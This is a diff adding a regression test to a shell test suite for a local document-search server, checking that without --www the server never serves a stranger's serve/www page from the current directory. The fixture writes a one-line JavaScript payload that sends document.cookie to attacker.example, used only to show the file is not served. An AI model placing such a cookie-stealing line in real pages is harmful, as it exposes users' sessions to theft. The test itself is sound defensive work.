@@ -163,6 +163,18 @@ done
 http get "$BASE/index.html"
 expect_stdout_matches "^200"
 
+# --- without --www, never the page of the current directory: a stranger's
+# serve/www/app.js there would run in the page with every document in reach
+stop_server
+mkdir -p stranger/serve/www
+echo 'location = "http://attacker.example/?" + document.cookie' >stranger/serve/www/app.js
+cd stranger || exit 99
+SERVE_WWW= start_server ../idx
+cd "$TMP" || exit 99
+http get "$BASE/app.js"
+expect_stdout_matches "^200" "without --www: the build tree's page"
+expect_stdout_lacks "attacker.example" "without --www: not the current directory's serve/www"
+
 # --- sort by date is one search, whatever the number of dates (a walk of
 # counting searches per date span ran out of --max-searches: 503)
 stop_server
